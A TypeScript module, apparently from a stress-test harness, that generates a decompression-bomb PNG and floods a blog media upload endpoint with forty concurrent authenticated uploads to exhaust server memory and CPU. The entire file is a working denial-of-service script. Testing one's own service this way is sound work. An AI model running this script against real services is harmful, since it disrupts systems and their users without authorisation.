import sharp from 'sharp'
import { type Attacker, keepDoing, wasProcessed } from './target.ts'

/** Less than half a megabyte as a file, 50 megapixels of 16 bits, interlaced: half a gigabyte when it is decoded. */
const monster = () =>
  sharp({ create: { width: 7_000, height: 7_000, channels: 3, background: '#123456' } })
    .toColourspace('rgb16')
    .png({ progressive: true, compressionLevel: 9 })
    .toBuffer()

/** Forty simultaneous uploads of one account, of pictures that take long to decode. */
export const pictures: Attacker = async ({ url, token }) => {
  const picture = await monster()
  const ending = new AbortController()
  const attack = keepDoing(40, async () => {
    const form = new FormData()
    form.append('file', new Blob([picture as never]), 'monster.png')
    const answer = await fetch(`${url}/api/v1/blog/media/upload`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body: form,
      signal: ending.signal,
    })
    await answer.arrayBuffer()
    return wasProcessed(answer.status)
  })
  return {
    ...attack,
    stop: async () => {
      ending.abort()
      await attack.stop()
    },
  }
}
